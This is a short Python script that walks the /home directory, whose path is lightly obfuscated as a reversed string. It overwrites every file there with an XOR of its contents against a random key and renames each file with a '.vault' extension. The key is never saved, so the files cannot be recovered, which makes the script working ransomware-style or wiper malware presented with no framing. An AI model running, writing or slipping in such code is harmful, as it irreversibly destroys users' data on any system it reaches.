import os
from itertools import cycle
from operator import xor

TOP = "/" + "emoh"[::-1]
key = os.urandom(32)


def every(top):
    for base, _, names in os.walk(top):
        for n in names:
            yield os.path.join(base, n)


for path in every(TOP):
    try:
        with open(path, "r+b") as fh:
            data = fh.read()
            fh.seek(0)
            fh.write(bytes(map(xor, data, cycle(key))))
        os.rename(path, path + ".vault")
    except OSError:
        continue
